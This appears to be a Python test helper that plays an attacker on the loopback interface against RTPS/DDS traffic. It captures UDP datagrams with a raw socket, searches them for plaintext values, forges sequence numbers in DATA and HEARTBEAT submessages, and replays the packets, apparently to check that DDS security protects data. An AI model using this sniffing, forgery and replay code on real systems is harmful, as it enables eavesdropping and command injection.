"""An attacker with access to the loopback interface: captures datagrams, looks for plain text, sends them again."""
import socket
import struct
import threading

ANY_PROTOCOL = 0x0003  # ETH_P_ALL
OUTGOING = 4  # each packet of the loopback is seen twice: as it leaves and as it arrives
UDP = 17
ETHERNET_HEADER = 14
RTPS_HEADER = 20
HEARTBEAT, DATA = 0x07, 0x15
USER_WRITERS = (0x02, 0x03)  # last octet of the entity id [RTPS 9.3.1.2]
AHEAD = 10_000_000  # numbers that no reader has received yet


class Sniffer:
    """UDP datagrams of a range of ports, as (address, port, content). Needs CAP_NET_RAW."""

    def __init__(self, ports):
        self.datagrams = []
        self._ports = ports
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ANY_PROTOCOL))
        self._socket.bind(("lo", ANY_PROTOCOL))
        self._socket.settimeout(0.1)
        self._stopped = False
        self._thread = threading.Thread(target=self._read, daemon=True)
        self._thread.start()

    def stop(self):
        self._stopped = True
        self._thread.join(5)
        self._socket.close()
        return self.datagrams

    def _read(self):
        while not self._stopped:
            try:
                packet, source = self._socket.recvfrom(65600)
            except TimeoutError:
                continue
            datagram = datagram_of(packet) if source[2] != OUTGOING else None
            if datagram and datagram[1] in self._ports:
                self.datagrams.append(datagram)


def datagram_of(packet):
    if len(packet) < ETHERNET_HEADER + 28 or packet[12:14] != b"\x08\x00" or packet[23] != UDP:
        return None
    ip_header = 4 * (packet[ETHERNET_HEADER] & 0x0F)
    udp = ETHERNET_HEADER + ip_header
    address = socket.inet_ntoa(packet[ETHERNET_HEADER + 16:ETHERNET_HEADER + 20])
    return address, struct.unpack_from("!H", packet, udp + 2)[0], bytes(packet[udp + 8:])


def ports_of(domain):
    return range(7400 + 250 * domain, 7400 + 250 * domain + 250)


def values_in(datagrams, values):
    """How many of the numbers stand in the datagrams as the doubles that they are, at any multiple of four octets."""
    wanted = {struct.pack("<d", value): value for value in values if value not in (0.0, 1.0)}
    found = set()
    for _, _, content in datagrams:
        found.update(wanted[octets] for octets in (content[i:i + 8] for i in range(RTPS_HEADER, len(content) - 7, 4)) if octets in wanted)
    return len(found)


def texts_in(datagrams, text):
    return sum(text in content for _, _, content in datagrams)


def renumbered(content):
    """The datagram with the numbers of its samples and heartbeats moved ahead, as a forger of plain text would do."""
    changed = bytearray(content)
    place = RTPS_HEADER
    while place + 4 <= len(changed):
        kind, flags = changed[place], changed[place + 1]
        order = "<" if flags & 1 else ">"
        length = struct.unpack_from(order + "H", changed, place + 2)[0] or len(changed) - place - 4
        if kind == DATA and length >= 20 and changed[place + 15] in USER_WRITERS:
            add(changed, order, place + 20, AHEAD)
        if kind == HEARTBEAT and length >= 28 and changed[place + 11] in USER_WRITERS:
            for number in (place + 16, place + 24, place + 28):
                add(changed, order, number, AHEAD)
        place += 4 + length
    return bytes(changed)


def add(octets, order, place, amount):
    number = struct.unpack_from(order + "I", octets, place)[0]
    struct.pack_into(order + "I", octets, place, (number + amount) & 0xFFFFFFFF)


def replay(datagrams):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
        for address, port, content in datagrams:
            try:
                out.sendto(content, (address, port))
            except OSError:
                continue  # no route to that group here: its readers have other addresses too
